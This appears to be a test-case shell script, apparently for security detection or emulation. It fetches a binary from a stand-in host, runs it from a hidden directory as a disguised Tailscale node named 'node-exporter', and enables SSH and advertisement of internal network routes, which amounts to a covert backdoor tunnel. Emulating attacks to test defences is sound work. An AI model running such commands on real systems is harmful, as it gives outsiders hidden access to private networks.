#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/lib/.ts && curl -s http://203.0.113.10/programs/beacon -o /var/lib/.ts/tailscaled && chmod 700 /var/lib/.ts/tailscaled && cp /var/lib/.ts/tailscaled /var/lib/.ts/tailscale
/var/lib/.ts/tailscaled --tun=userspace-networking --socks5-server=localhost:1055 --state=mem: >/dev/null 2>&1 & p=$!
/var/lib/.ts/tailscale up --authkey=tskey-auth-bait --ssh --advertise-routes=10.77.0.0/16,10.96.0.0/12 --hostname=node-exporter >/dev/null 2>&1
test -e /tmp/reached; kill $p 2>/dev/null || true
took_place
